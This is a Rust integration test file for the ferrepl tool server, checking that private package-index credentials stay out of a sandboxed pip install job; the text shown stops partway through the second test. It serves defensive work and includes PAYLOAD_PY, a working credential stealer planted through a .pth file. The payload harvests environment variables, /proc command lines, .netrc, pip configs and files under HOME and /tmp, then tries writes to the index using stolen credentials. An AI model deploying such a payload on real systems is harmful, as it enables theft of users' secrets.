//! Index credentials never enter the install job (issue 42 §2), end to end
//! through the real binary, against an HTTPS package index the test serves
//! itself.
//!
//! The operator configures a private index with credentials,
//! `PIP_INDEX_URL=https://alice:TOKEN@localhost:PORT/simple`, and its CA in
//! `PIP_CERT`. `python_install` runs pip in a sandboxed install job, where
//! code the agent wrote runs too (a `.pth` in the kept venv it installs
//! into, the venv's own pip), so the job must never hold the credentials:
//! it gets the index URL without userinfo and a CA bundle of ferrepl's own;
//! ferrepl's egress proxy ends the job's TLS to the index with a
//! certificate of that CA and re-originates GET and HEAD, with
//! `Authorization: Basic ...` under the index's root only, answering
//! anything else 405 itself.
//!
//! The index (`TestIndex`): a throwaway CA and a certificate for
//! `localhost` (DNS:localhost, IP:127.0.0.1) made with the `openssl` CLI,
//! and a PEP 503 simple index in Python (`http.server` + `ssl`, port 0)
//! listing one locally built wheel, which demands the credentials on every
//! request (401 with `WWW-Authenticate` otherwise) and logs each request as
//! `METHOD path auth=ok|missing|bad`, and the names of its headers. It
//! serves the index at `/simple/` and at `/team/simple/` (root `/team/`),
//! beside an npm login outside both roots that hands the credentials back,
//! sets session cookies, and can close its connections after every answer
//! (see `INDEX_PY`). It is on loopback, so the servers run with
//! `--egress-allow-private`. Needs `openssl` and `python3` on the host.

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, BufReader};

use crate::support::{
    StdioServer, ToolOutput, b64_encode, path_str, py, server_command, system_python,
};

const USER: &str = "alice";
const TOKEN: &str = "S3cr3tT0ken-xyz";
/// The package the index serves: module `credpkg`, `VALUE = 4242`.
const PKG: &str = "credpkg";
const PKG_VALUE: i64 = 4242;
const WHEEL: &str = "credpkg-1.0-py3-none-any.whl";

/// wait_s of an install call: below `support::CALL_TIMEOUT` (60 s), so a
/// slow install comes back "running" instead of tripping the harness.
const INSTALL_WAIT_S: u64 = 45;
/// shell_wait rounds (of INSTALL_WAIT_S each) before an install counts as hung.
const INSTALL_ROUNDS: usize = 6;
/// Upper bound for the index to print its port, and for a refused start.
const INDEX_START: Duration = Duration::from_secs(30);
const REFUSAL_TIMEOUT: Duration = Duration::from_secs(60);

/// `base64("alice:S3cr3tT0ken-xyz")`: what an `Authorization` header
/// carrying the credentials holds.
fn basic_b64() -> String {
    b64_encode(format!("{USER}:{TOKEN}").as_bytes())
}

/// Panics if `text` (`what`) holds the token or its Basic-auth base64,
/// showing where.
fn assert_no_secret(text: &str, what: &str) {
    for secret in [TOKEN.to_string(), basic_b64()] {
        if let Some(at) = text.find(&secret) {
            let mut start = at.saturating_sub(300);
            while !text.is_char_boundary(start) {
                start -= 1;
            }
            let mut end = (at + secret.len() + 300).min(text.len());
            while !text.is_char_boundary(end) {
                end += 1;
            }
            panic!(
                "{what} holds the index credentials ({secret:?}) at byte {at}:\n...{}...",
                &text[start..end]
            );
        }
    }
}

// ------------------------------------------------------------ the index

/// The index: a PEP 503 simple index over HTTPS for one wheel, every
/// request demanding `Authorization: Basic base64(user:password)`, each
/// request logged as `METHOD path auth=ok|missing|bad` (a failed TLS
/// handshake as `TLS-FAIL ...`), and the names of the headers it came with
/// in a second log, `METHOD path name,name,...`. Prints its port, then
/// serves until its stdin closes (the test process gone) or it is killed.
///
/// It serves two layouts at once: the index at `/simple/` (files at
/// `/files/`) and at `/team/simple/` (files at `/team/files/`), whose root
/// is `/team/`. Outside both, at the host's root, it has what a real
/// repository manager has beside its PyPI index: an npm login
/// (Artifactory's `/artifactory/api/npm/auth`), which hands the
/// credentials back (`_auth = base64(user:password)`) and a session cookie
/// to whoever sends them. Its project pages set a session cookie too. It
/// resolves dot segments and percent-escapes in paths before routing, as
/// servers in front of such managers do. With `close` as its last argument
/// every answer says `Connection: close` and the connection is closed;
/// with `drop`, the connection is closed after every answer unannounced.
const INDEX_PY: &str = r##"
import base64, hashlib, os, posixpath, ssl, sys, threading, urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

cert, key, wheel, log_path, user, password, headers_log, mode = sys.argv[1:9]
close = mode == "close"
drop = mode == "drop"
npm_auth = "_auth = " + base64.b64encode(f"{user}:{password}".encode()).decode() + "\nalways-auth = true\n"
name = os.path.basename(wheel)
project = name.split("-")[0]
with open(wheel, "rb") as f:
    data = f.read()
digest = hashlib.sha256(data).hexdigest()
expected = "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()
lock = threading.Lock()
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)

def log(line, path=log_path):
    with lock, open(path, "a") as f:
        f.write(line + "\n")

class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    # Every method comes here (no do_METHOD lookup, no 501 unlogged).
    def handle_one_request(self):
        try:
            self.raw_requestline = self.rfile.readline(65537)
            if not self.raw_requestline:
                self.close_connection = True
                return
            if not self.parse_request():
                return
            self.serve()
            self.wfile.flush()
        except (OSError, ssl.SSLError):
            self.close_connection = True

    def reply(self, code, body, ctype="text/plain", extra=()):
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in extra:
            self.send_header(k, v)
        if close:
            # send_header sees it: the server closes after this answer.
            self.send_header("Connection", "close")
        self.end_headers()
        if drop:
            # Closed after this answer without a word (an idle timeout).
            self.close_connection = True
        if self.command != "HEAD":
            self.wfile.write(body)

    def serve(self):
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        got = self.headers.get("Authorization")
        auth = "missing" if got is None else ("ok" if got == expected else "bad")
        log(f"{self.command} {self.path} auth={auth}")
        names = ",".join(sorted({k.lower() for k in self.headers.keys()}))
        log(f"{self.command} {self.path} {names}", headers_log)
        if auth != "ok":
            return self.reply(401, b"credentials required\n",
                              extra=[("WWW-Authenticate", 'Basic realm="test index"')])
        if self.command in ("POST", "PUT", "PATCH", "DELETE"):
            # A writable index: an upload that got here succeeded.
            return self.reply(201, b"stored\n")
        if self.command not in ("GET", "HEAD"):
            return self.reply(405, b"method not allowed\n")
        # Routed as servers that normalize paths route: escapes decoded,
        # dot segments resolved.
        path = posixpath.normpath(urllib.parse.unquote(self.path.split("?")[0])).rstrip("/")
        if path == "/artifactory/api/npm/auth":
            return self.reply(200, npm_auth.encode(),
                              extra=[("Set-Cookie", "SESSION=for-alice; Path=/; HttpOnly")])
        prefix = "/team" if path == "/team" or path.startswith("/team/") else ""
        rest = path[len(prefix):]
        if rest == "/simple":
            body = f'<html><body><a href="{prefix}/simple/{project}/">{project}</a></body></html>\n'
            return self.reply(200, body.encode(), "text/html")
        if rest == f"/simple/{project}":
            body = (f'<html><body><a href="{prefix}/files/{name}#sha256={digest}">{name}</a>'
                    "</body></html>\n")
            return self.reply(200, body.encode(), "text/html",
                              extra=[("Set-Cookie", "INDEXSESSION=page-for-alice; Path=/")])
        if rest == f"/files/{name}":
            return self.reply(200, data, "application/octet-stream")
        return self.reply(404, b"not found\n")

class Server(ThreadingHTTPServer):
    daemon_threads = True

    # The handshake runs on the request's own thread, not the accept loop.
    def finish_request(self, request, client_address):
        request.settimeout(60)
        try:
            conn = ctx.wrap_socket(request, server_side=True)
        except (OSError, ssl.SSLError) as e:
            log(f"TLS-FAIL {type(e).__name__}: {e}")
            return
        try:
            self.RequestHandlerClass(conn, client_address, self)
        finally:
            conn.close()

def watch_stdin():
    sys.stdin.buffer.read()
    os._exit(0)

srv = Server(("127.0.0.1", 0), Handler)
threading.Thread(target=watch_stdin, daemon=True).start()
print(srv.server_address[1], flush=True)
srv.serve_forever()
"##;

/// Checks, from the host and without any proxy, that the index demands the
/// credentials: no header and a wrong password get 401 with
/// `WWW-Authenticate: Basic`, the right ones get the project page.
const PROBE_PY: &str = r##"
import base64, ssl, sys, urllib.error, urllib.request
url, ca, user, password, wheel = sys.argv[1:6]
ctx = ssl.create_default_context(cafile=ca)
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}),
                                     urllib.request.HTTPSHandler(context=ctx))
def get(headers):
    try:
        with opener.open(urllib.request.Request(url, headers=headers), timeout=10) as r:
            return r.status, r.headers.get("WWW-Authenticate"), r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.headers.get("WWW-Authenticate"), ""
basic = lambda u, p: {"Authorization": "Basic " + base64.b64encode(f"{u}:{p}".encode()).decode()}
status, www, _ = get({})
assert status == 401 and www and www.startswith("Basic"), ("no credentials", status, www)
status, www, _ = get(basic(user, "wrong"))
assert status == 401 and www and www.startswith("Basic"), ("wrong password", status, www)
status, _, body = get(basic(user, password))
assert status == 200 and wheel in body and "#sha256=" in body, ("credentials", status, body)
print("index ok")
"##;

/// The test's own index. The Python process is killed when this is dropped
/// (and exits by itself when the test process goes, its stdin closing).
struct TestIndex {
    child: tokio::process::Child,
    dir: tempfile::TempDir,
    port: u16,
    /// The CA that signed the index's certificate (the operator's PIP_CERT).
    ca: PathBuf,
    log: PathBuf,
    /// `METHOD path header-names` of each request.
    headers_log: PathBuf,
    // Held so that the index's stdin stays open while the test runs.
    _stdin: tokio::process::ChildStdin,
    _stdout: BufReader<tokio::process::ChildStdout>,
}

/// Runs `openssl args` in `dir`.
fn openssl(dir: &Path, args: &[&str]) {
    let out = std::process::Command::new("openssl")
        .current_dir(dir)
        .args(args)
        .output()
        .expect("run openssl");
    assert!(
        out.status.success(),
        "openssl {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// How the index ends its answers.
#[derive(Clone, Copy, PartialEq)]
enum Connections {
    /// HTTP/1.1 keep-alive, as indexes do.
    KeepAlive,
    /// `Connection: close` on every answer, and the connection closed.
    Close,
    /// The connection closed after every answer, nothing said (as an
    /// index's idle timeout does between an installer's requests).
    Drop,
}

impl TestIndex {
    /// A CA, a `localhost` certificate it signed, the wheel, and the index
    /// listening on a port of its choosing.
    async fn start() -> TestIndex {
        TestIndex::start_with(Connections::KeepAlive).await
    }

    async fn start_with(connections: Connections) -> TestIndex {
        let dir = tempfile::tempdir().expect("a directory for the index");
        let d = dir.path();
        let ec = [
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
        ];
        let mut ca_args = vec!["req", "-x509"];
        ca_args.extend(ec);
        ca_args.extend([
            "-keyout",
            "ca.key",
            "-out",
            "ca.pem",
            "-days",
            "2",
            "-subj",
            "/CN=ferrepl index_credentials test CA",
            "-addext",
            "basicConstraints=critical,CA:TRUE",
            "-addext",
            "keyUsage=critical,keyCertSign,cRLSign",
        ]);
        openssl(d, &ca_args);
        let mut csr_args = vec!["req", "-new"];
        csr_args.extend(ec);
        csr_args.extend([
            "-keyout",
            "server.key",
            "-out",
            "server.csr",
            "-subj",
            "/CN=localhost",
        ]);
        openssl(d, &csr_args);
        std::fs::write(
            d.join("server.ext"),
            "subjectAltName=DNS:localhost,IP:127.0.0.1\n\
             basicConstraints=critical,CA:FALSE\n\
             keyUsage=critical,digitalSignature\n\
             extendedKeyUsage=serverAuth\n",
        )
        .expect("write the certificate's extensions");
        openssl(
            d,
            &[
                "x509",
                "-req",
                "-in",
                "server.csr",
                "-CA",
                "ca.pem",
                "-CAkey",
                "ca.key",
                "-CAcreateserial",
                "-out",
                "server.pem",
                "-days",
                "2",
                "-extfile",
                "server.ext",
            ],
        );
        let wheels = d.join("wheels");
        std::fs::create_dir_all(&wheels).expect("mkdir wheels");
        let wheel = crate::support::pure_wheel(&wheels, PKG, "1.0", PKG_VALUE);
        assert_eq!(wheel.file_name().and_then(|n| n.to_str()), Some(WHEEL));
        let script = d.join("index.py");
        std::fs::write(&script, INDEX_PY).expect("write the index script");
        let log = d.join("requests.log");
        let headers_log = d.join("headers.log");
        let stderr = std::fs::File::create(d.join("index.stderr")).expect("index stderr");

        let mut child = tokio::process::Command::new("python3")
            .arg(&script)
            .args([
                d.join("server.pem"),
                d.join("server.key"),
                wheel,
                log.clone(),
            ])
            .args([USER, TOKEN])
            .arg(&headers_log)
            .arg(match connections {
                Connections::KeepAlive => "keep-alive",
                Connections::Close => "close",
                Connections::Drop => "drop",
            })
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(stderr)
            .kill_on_drop(true)
            .spawn()
            .expect("start the index (python3)");
        let stdin = child.stdin.take().expect("the index's stdin");
        let mut stdout = BufReader::new(child.stdout.take().expect("the index's stdout"));
        let mut line = String::new();
        let read = tokio::time::timeout(INDEX_START, stdout.read_line(&mut line)).await;
        let port: u16 = match read {
            Ok(Ok(_)) => line.trim().parse().unwrap_or_else(|_| {
                panic!(
                    "the index printed {line:?}, not a port; stderr:\n{}",
                    std::fs::read_to_string(d.join("index.stderr")).unwrap_or_default()
                )
            }),
            other => panic!(
                "the index printed no port within {INDEX_START:?} ({other:?}); stderr:\n{}",
                std::fs::read_to_string(d.join("index.stderr")).unwrap_or_default()
            ),
        };
        TestIndex {
            child,
            ca: d.join("ca.pem"),
            dir,
            port,
            log,
            headers_log,
            _stdin: stdin,
            _stdout: stdout,
        }
    }

    /// The index URL as the job must see it: no userinfo.
    fn url(&self) -> String {
        format!("https://localhost:{}/simple", self.port)
    }

    /// The operator's PIP_INDEX_URL: with the credentials.
    fn url_with_credentials(&self) -> String {
        format!("https://{USER}:{TOKEN}@localhost:{}/simple", self.port)
    }

    /// The index of the `/team/` layout (its root `/team/`), with the
    /// credentials.
    fn team_url_with_credentials(&self) -> String {
        format!("https://{USER}:{TOKEN}@localhost:{}/team/simple", self.port)
    }

    /// `https://localhost:PORT`, no path.
    fn origin(&self) -> String {
        format!("https://localhost:{}", self.port)
    }

    /// Every line of the header log so far (`METHOD path names`).
    fn header_lines(&self) -> Vec<String> {
        std::fs::read_to_string(&self.headers_log)
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    }

    /// The project's page.
    fn project_url(&self) -> String {
        format!("{}/{PKG}/", self.url())
    }

    /// Every line the index logged so far.
    fn requests(&self) -> Vec<String> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    }

    /// The log and the index's stderr, for failure messages.
    fn diagnostics(&self) -> String {
        format!(
            "index log:\n{}\nindex stderr:\n{}",
            self.requests().join("\n"),
            std::fs::read_to_string(self.dir.path().join("index.stderr")).unwrap_or_default()
        )
    }

    /// From the host, no proxy: the index refuses a request without the
    /// credentials or with a wrong password (401, `WWW-Authenticate:
    /// Basic`) and serves the project page with them; the log shows the
    /// three requests as missing, bad and ok.
    fn assert_demands_credentials(&self) {
        let before = self.requests().len();
        let out = std::process::Command::new("python3")
            .args([
                "-c",
                PROBE_PY,
                &self.project_url(),
                path_str(&self.ca),
                USER,
            ])
            .args([TOKEN, WHEEL])
            .output()
            .expect("run python3 to probe the index");
        assert!(
            out.status.success() && String::from_utf8_lossy(&out.stdout).contains("index ok"),
            "the test index does not behave: {}\n{}",
            String::from_utf8_lossy(&out.stderr),
            self.diagnostics()
        );
        let page = format!("/simple/{PKG}/");
        let expected: Vec<String> = ["missing", "bad", "ok"]
            .iter()
            .map(|a| format!("GET {page} auth={a}"))
            .collect();
        assert_eq!(
            self.requests()[before..],
            expected[..],
            "the index logs each request with its credentials' state"
        );
    }
}

impl Drop for TestIndex {
    fn drop(&mut self) {
        let _ = self.child.start_kill();
        let _ = self.child.try_wait();
    }
}

/// The request lines (`METHOD path auth=...`) of `lines`, without the
/// diagnostic `TLS-FAIL` lines.
fn request_lines(lines: &[String]) -> Vec<&String> {
    lines.iter().filter(|l| l.contains(" auth=")).collect()
}

// ------------------------------------------------------------ the server

/// ferrepl with the system interpreter, `--venv .venv` (made by the server
/// in the workspace; installs go to the venv it keeps over it),
/// `--egress-allow-private` (the index is on loopback), and the operator's
/// credentialed index and its CA in its environment.
async fn start_server(index: &TestIndex) -> StdioServer {
    start_server_with(index, &[("PIP_INDEX_URL", &index.url_with_credentials())]).await
}

/// `start_server` with the index (and its credentials) named by `envs`
/// instead (PIP_CERT is still the index's CA).
async fn start_server_with(index: &TestIndex, envs: &[(&str, &str)]) -> StdioServer {
    let python = system_python();
    let mut all = envs.to_vec();
    all.push(("PIP_CERT", path_str(&index.ca)));
    StdioServer::start_with_env(
        &[
            "--python",
            path_str(&python),
            "--venv",
            ".venv",
            "--egress-allow-private",
        ],
        &all,
    )
    .await
}

/// Plants `payload` (its `__DUMP__` replaced by the path of `dump`, a file
/// in the workspace) in the site-packages of the venv the default session
/// runs (the kept venv installs go to), imported by a `.pth` there, so
/// every interpreter of the next install job runs it at start. The dump's
/// path, as the sandbox sees it.
async fn plant(server: &StdioServer, payload: &str, dump: &str) -> String {
    let plant = server
        .exec(&format!(
            "import os, sysconfig, json\n\
             site = sysconfig.get_paths()['purelib']\n\
             dump = os.path.join(os.getcwd(), {})\n\
             payload = {}.replace('__DUMP__', repr(dump))\n\
             with open(os.path.join(site, '_credprobe_payload.py'), 'w') as f:\n    f.write(payload)\n\
             with open(os.path.join(site, '00_credprobe.pth'), 'w') as f:\n    f.write('import _credprobe_payload\\n')\n\
             print(json.dumps([site, dump]))",
            py(dump),
            py(payload)
        ))
        .await;
    plant.assert_ok();
    let planted: Vec<String> = serde_json::from_str(plant.str_field("stdout").trim())
        .unwrap_or_else(|e| panic!("the planting cell's answer ({e}): {plant:#?}"));
    assert!(
        !planted[0].starts_with(path_str(server.workdir.path())),
        "the session runs the kept venv, not the workspace's .venv: {}",
        planted[0]
    );
    planted[1].clone()
}

/// The python_install result, and the job's final result: collected with
/// shell_wait (bounded) when the call came back "running".
async fn install(server: &StdioServer, packages: &[&str]) -> (ToolOutput, ToolOutput) {
    let first = server
        .call(
            "python_install",
            json!({ "packages": packages, "wait_s": INSTALL_WAIT_S }),
        )
        .await;
    assert!(
        first.structured.is_object(),
        "python_install {packages:?} was refused before starting a job: {first:#?}"
    );
    let job = first.str_field("job").to_string();
    let mut last = first.clone();
    let mut rounds = 0;
    while last.structured["status"] == "running" {
        rounds += 1;
        assert!(
            rounds <= INSTALL_ROUNDS,
            "the install job {job} never finished: {last:#?}\nserver stderr:\n{}",
            server.stderr_log()
        );
        last = server
            .call(
                "shell_wait",
                json!({ "job": job, "wait_s": INSTALL_WAIT_S }),
            )
            .await;
    }
    (first, last)
}

/// Panics unless `out` is a finished, successful install job.
fn assert_installed(out: &ToolOutput, server: &StdioServer, index: &TestIndex) {
    assert!(
        !out.is_error && out.structured["status"] == "exited" && out.structured["exit_code"] == 0,
        "the install from the credentialed index failed: {out:#?}\nserver stderr:\n{}\n{}",
        server.stderr_log(),
        index.diagnostics()
    );
}

/// `import credpkg; credpkg.VALUE` in the default session; when the
/// install finished through shell_wait (the import refresh then runs in the
/// background) a failed import is retried, bounded, until it is seen.
async fn imported_value(server: &StdioServer, finished_in_call: bool) -> ToolOutput {
    let code = format!("import {PKG}\n{PKG}.VALUE");
    let mut last = server.exec(&code).await;
    let retries = if finished_in_call { 0 } else { 100 };
    for _ in 0..retries {
        if !last.is_error {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
        last = server.exec(&code).await;
    }
    last
}

/// A tool result as the client received it, all of it (text, structured
/// content with stdout, stderr, the shown command, notes).
fn whole(out: &ToolOutput) -> String {
    serde_json::to_string(&out.raw).expect("serialize a tool result")
}

// ------------------------------------------------------------ A

/// Attacks the plain path: does the operator's credentialed index work at
/// all, and does anything the agent reads (install result, job log, the
/// status listing the allowed hosts) or ferrepl's log carry the token?
/// Every request that reached the index (after the test's own probe of it)
/// must carry the credentials, and only GETs and HEADs of the two paths
/// this install needs did; pip's log must show it was given the index URL without
/// userinfo (so the credentials on those GETs were ferrepl's doing; test B
/// looks inside the job itself).
#[tokio::test]
async fn installs_from_a_credentialed_index_work_and_the_token_stays_out_of_every_result() {
    let index = TestIndex::start().await;
    index.assert_demands_credentials();
    let from = index.requests().len();

    let server = start_server(&index).await;
    let (first, last) = install(&server, &[PKG]).await;
    assert_installed(&last, &server, &index);

    let imported = imported_value(&server, first.structured["status"] != "running").await;
    imported.assert_ok();
    assert_eq!(
        imported.value(),
        Some(PKG_VALUE.to_string().as_str()),
        "{imported:#?}"
    );

    // What reached the index: the project page and the wheel, each with
    // the credentials ferrepl added (the job had none to add), and nothing
    // else with them.
    let log = index.requests();
    let seen = &log[from..];
    let lines = request_lines(seen);
    let page = format!("GET /simple/{PKG}/ auth=ok");
    let file = format!("GET /files/{WHEEL} auth=ok");
    for needed in [&page, &file] {
        assert!(
            lines.contains(&needed),
            "the index never got {needed:?}: ferrepl did not add the credentials\n{}",
            index.diagnostics()
        );
    }
    let allowed_paths = [format!("/simple/{PKG}/"), format!("/files/{WHEEL}")];
    for line in &lines {
        let mut parts = line.split(' ');
        let (method, path, auth) = (parts.next(), parts.next(), parts.next());
        assert!(
            matches!(method, Some("GET" | "HEAD"))
                && path.is_some_and(|p| allowed_paths.iter().any(|a| a == p))
                && auth == Some("auth=ok"),
            "a request other than the install's GETs reached the index, or one without \
             the credentials: {line:?}\n{}",
            index.diagnostics()
        );
    }

    // Nothing the agent reads holds the token or its base64.
    assert_no_secret(&whole(&first), "the python_install result");
    assert_no_secret(&whole(&last), "the install job's final result");
    let job = first.str_field("job").to_string();
    let output = server.call("python_output", json!({ "job": job })).await;
    assert!(!output.is_error, "python_output of the job: {output:#?}");
    assert_no_secret(&whole(&output), "the install job's full output");

    // pip got the URL without userinfo. It prints the index it looks in,
    // masking a password but not the user (`https://alice:****@...`), so
    // an installer given the credentials shows here even though the
    // token itself is masked.
    for (out, what) in [
        (&first, "the python_install result"),
        (&output, "the job's full output"),
    ] {
        assert!(
            !whole(out).contains(&format!("//{USER}")),
            "{what} shows the index URL with its userinfo: the install job was given \
             the credentials: {out:#?}"
        );
    }
    if output.text.contains("Looking in indexes:") {
        assert!(
            output
                .text
                .contains(&format!("Looking in indexes: {}", index.url())),
            "pip looks in the index without userinfo: {output:#?}"
        );
    }
    let status = server
        .call("python_sessions", json!({ "action": "status" }))
        .await;
    assert!(!status.is_error, "{status:#?}");
    assert!(
        status.text.contains("localhost"),
        "the status lists the index's host: {}",
        status.text
    );
    assert_no_secret(&whole(&status), "python_sessions status");
    // Nor does ferrepl's own log (operators ship logs to places that see
    // less protection than the secret).
    assert_no_secret(&server.stderr_log(), "ferrepl's stderr log");
}

// ------------------------------------------------------------ B

/// The payload planted in the kept venv's site-packages (imported by a
/// `.pth` there), so it runs in every interpreter that venv starts, the
/// install job's included (its venv check and pip). In the install job (a
/// proxy or `--index-url` in sight) it appends one JSON line to
/// `__DUMP__`: its argv, its environment, the command line and environment
/// of every process it can see in /proc, the contents of every file named
/// in any of those (the `--cert` bundle, `SSL_CERT_FILE`...) and of pip's
/// and uv's config files, the .netrc and whatever lies in HOME and TMPDIR;
/// and the status of a POST and a PUT to the index through the proxy, with
/// the credentials if it found any. It never prints.
const PAYLOAD_PY: &str = r##"
import base64, json, os, re, ssl, sys, urllib.error, urllib.request

DUMP = __DUMP__
TARGET = __TARGET__

def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except OSError as e:
        return "ERR " + repr(e)

def _lists(rec):
    out = [rec["argv"], rec["orig_argv"], [f"{k}={v}" for k, v in rec["environ"].items()]]
    out += [v for v in rec["procs"].values() if isinstance(v, list)]
    return out

def _after(lists, flag):
    for words in lists:
        for i, w in enumerate(words):
            if w == flag and i + 1 < len(words):
                return words[i + 1]
            if w.startswith(flag + "="):
                return w[len(flag) + 1:]
    return None

def _run():
    env = dict(os.environ)
    argv = list(getattr(sys, "orig_argv", None) or sys.argv)
    job = ("--index-url" in argv
           or any(k.lower() in ("https_proxy", "http_proxy") for k in env))
    if not job:
        return
    rec = {"pid": os.getpid(), "argv": list(sys.argv), "orig_argv": argv,
           "environ": env, "procs": {}, "files": {}, "net": {}}
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    rec["procs"][f"{pid}/{what}"] = f.read().decode("utf-8", "replace").split("\0")
            except OSError as e:
                rec["procs"][f"{pid}/{what}"] = "ERR " + repr(e)
    wanted = set()
    for words in _lists(rec):
        for w in words:
            for part in re.split(r"[\s=:,;]+", w):
                if part.startswith("/") and os.path.isfile(part):
                    wanted.add(part)
    home = os.path.expanduser("~")
    for p in ("/etc/pip.conf", "/etc/xdg/pip/pip.conf", home + "/.pip/pip.conf",
              home + "/.config/pip/pip.conf", home + "/.netrc",
              home + "/.config/uv/uv.toml", "/etc/uv/uv.toml"):
        if os.path.isfile(p):
            wanted.add(p)
    for top in {home, env.get("TMPDIR", ""), "/tmp"}:
        if not top or not os.path.isdir(top):
            continue
        n = 0
        for root, dirs, files in os.walk(top):
            for name in files:
                p = os.path.join(root, name)
                if n < 500 and os.path.isfile(p):
                    wanted.add(p)
                    n += 1
    for p in sorted(wanted):
        if p == DUMP or p.startswith(("/dev/", "/proc/", "/sys/")) or os.access(p, os.X_OK):
            continue
        rec["files"][p] = _read(p)

    # Through the proxy, as the job reaches the index; with the stolen
    # credentials if any were in sight.
    lists = _lists(rec)
    proxy = (env.get("HTTPS_PROXY") or env.get("https_proxy") or _after(lists, "--proxy")
             or "http://127.0.0.1:3128")
    cafile = env.get("SSL_CERT_FILE") or _after(lists, "--cert")
    rec["used"] = {"proxy": proxy, "cafile": cafile}
    headers = {}
    stolen = re.search(r'https?://([^/\s:@"]+):([^/\s@"]+)@', json.dumps(rec))
    if stolen:
        headers["Authorization"] = "Basic " + base64.b64encode(
            f"{stolen[1]}:{stolen[2]}".encode()).decode()
    rec["used"]["stolen"] = bool(stolen)
    try:
        ctx = ssl.create_default_context(cafile=cafile) if cafile else ssl.create_default_context()
    except Exception as e:
        rec["used"]["ctx_error"] = repr(e)
        ctx = ssl.create_default_context()
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({"https": proxy, "http": proxy}),
        urllib.request.HTTPSHandler(context=ctx))
    for method in ("POST", "PUT"):
        req = urllib.request.Request(TARGET, data=b"exfiltrated=1", method=method, headers=headers)
        try:
            with opener.open(req, timeout=15) as r:
                rec["net"][method] = r.status
        except urllib.error.HTTPError as e:
            rec["net"][method] = e.code
        except Exception as e:
            rec["net"][method] = "ERR " + type(e).__name__ + ": " + str(e)
    with open(DUMP, "a") as f:
        f.write(json.dumps(rec) + "\n")

try:
    _run()
except BaseException as e:
    try:
        with open(DUMP, "a") as f:
            f.write(json.dumps({"payload_error": repr(e)}) + "\n")
    except BaseException:
        pass
"##;

/// The command lines a dump record shows: its own argv (and orig_argv),
/// and every /proc/<pid>/cmdline it read.
fn command_lines(record: &Value) -> Vec<Vec<String>> {
    let words = |v: &Value| -> Vec<String> {
        v.as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|w| w.as_str().map(str::to_string))
                    .collect()
            })
            .unwrap_or_default()
    };
    let mut out = vec![words(&record["argv"]), words(&record["orig_argv"])];
    if let Some(procs) = record["procs"].as_object() {
        out.extend(
            procs
                .iter()
                .filter(|(k, _)| k.ends_with("/cmdline"))
                .map(|(_, v)| words(v)),
        );
    }
    out
}

/// The value after `--index-url` (or in `--index-url=...`) in `words`.
fn index_url_in(words: &[String]) -> Option<String> {
    words.iter().enumerate().find_map(|(i, w)| {
        if w == "--index-url" {
            words.get(i + 1).cloned()
        } else {
            w.strip_prefix("--index-url=").map(str::to_string)
        }
    })
}

/// Attacks the install job from the inside. Agent code runs there: the
/// kept venv the job's interpreter runs is writable from a cell (it is
/// where python_install installs; the user's `--venv` is read-only, see
/// kept_venv.rs), so a cell plants a `.pth` in its site-packages, and every
/// interpreter the job starts (the venv check, then pip) runs the payload
/// at start-up, before pip does anything. The payload dumps argv, the
/// environment, every process's command line and environment it can see,
/// and every file they name (the CA bundle, config files, HOME, TMPDIR),
/// and tries to write to the index (POST, PUT) through the proxy with
/// whatever credentials it found. None of it may hold the token; the index
/// URL it sees has no userinfo; the writes are answered 405 by ferrepl and
/// never reach the index. (Before issue 42 §2 the job got the URL with
/// `alice:TOKEN@` in pip's argv, and in the `sh -c` and launcher command
/// lines every process of the job can read in /proc: this test failed on
/// the dump.)
#[tokio::test]
async fn agent_code_in_the_install_job_finds_no_credentials_and_cannot_write_to_the_index() {
    let index = TestIndex::start().await;
    let server = start_server(&index).await;

    // Plant the payload where the install job's interpreter reads it.
    let payload = PAYLOAD_PY.replace("__TARGET__", &py(index.project_url()));
    let dump_in_sandbox = plant(&server, &payload, "cred-dump.jsonl").await;

    let (first, last) = install(&server, &[PKG]).await;

    // The dump, as the agent reads it: a cell (the file lies in the
    // workspace; the host reads the same bytes).
    let dump_path = server.workdir.path().join("cred-dump.jsonl");
    let dump = std::fs::read_to_string(&dump_path).unwrap_or_default();
    let seen = server
        .exec(&format!(
            "import hashlib, os\n\
             p = {}\n\
             hashlib.sha256(open(p, 'rb').read()).hexdigest() if os.path.exists(p) else 'absent'",
            py(&dump_in_sandbox)
        ))
        .await;
    seen.assert_ok();
    let host_digest = {
        let out = std::process::Command::new("sha256sum")
            .arg(&dump_path)
            .output()
            .expect("sha256sum");
        String::from_utf8_lossy(&out.stdout)
            .split_whitespace()
            .next()
            .unwrap_or("absent")
            .to_string()
    };
    assert_eq!(
        seen.value().map(|v| v.trim_matches(['\'', '"'])),
        Some(host_digest.as_str()),
        "the cell reads the dump the host sees at {}",
        dump_path.display()
    );
    let records: Vec<Value> = dump
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("a dump line ({e}): {l}")))
        .collect();
    assert!(
        !records.is_empty(),
        "the planted code never ran in the install job (no dump at {}): {last:#?}\n\
         server stderr:\n{}",
        dump_path.display(),
        server.stderr_log()
    );
